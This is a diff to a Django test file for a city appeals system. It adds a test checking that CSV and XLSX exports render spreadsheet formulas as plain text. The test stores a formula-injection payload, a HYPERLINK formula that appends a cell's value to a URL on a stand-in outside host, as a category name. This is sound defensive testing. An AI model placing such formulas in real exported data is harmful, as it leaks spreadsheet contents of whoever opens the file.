@@ -11,7 +11,7 @@ from PIL import Image
 
 from hromada.apps.accounts.models import StaffRole
 from hromada.apps.appeals import actions
-from hromada.apps.appeals.models import Appeal, AppealPhoto, Channel, PaperScan
+from hromada.apps.appeals.models import Appeal, AppealPhoto, Category, Channel, PaperScan
 from hromada.core import tenancy
 from hromada.core.audit.models import AuditRecord
 from hromada.testing import factories
@@ -180,7 +180,7 @@ def test_csv_and_xlsx_exports(client, world):
     assert body.count("KY-20") == 2 and "number,registered_at" in body
     xlsx = client.get("/c/kyiv/appeals/office/export.xlsx?kind=open")
     from openpyxl import load_workbook
-    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
     assert sheet.max_row == 3
     client.force_login(world.executor)
     assert client.get("/c/kyiv/appeals/office/export.csv").status_code == 403
@@ -262,3 +262,18 @@ def test_queue_marks_overdue_rows_and_dashboard_links_each_row(client, world):
     assert (f'<tr><th scope="row">Дороги</th><td><a href="/c/kyiv/appeals/office/list/?kind=open&amp;'
             f'department={world.roads.pk}">2</a></td><td><a href="/c/kyiv/appeals/office/list/?kind=overdue&amp;'
             f'department={world.roads.pk}">1</a></td></tr>') in html
+
+
+def test_office_exports_never_hand_a_formula_to_the_spreadsheet(client, world):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("https://example.org/?"&A1;"Вибоїни")'
+    with tenancy.scope(world.community):
+        Category.objects.filter(pk=world.pothole.pk).update(name_uk=formula, name_en=formula)
+    _many(world, 1)
+    client.force_login(world.controller)
+    body = b"".join(client.get("/c/kyiv/appeals/office/export.csv?kind=open").streaming_content).decode()
+    assert "'" + formula.replace('"', '""') in body  # CSV: an apostrophe makes it text
+    xlsx = client.get("/c/kyiv/appeals/office/export.xlsx?kind=open")
+    cell = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active["F2"]
+    assert (cell.value, cell.data_type) == (formula, "s")  # XLSX: the text as written, typed as text
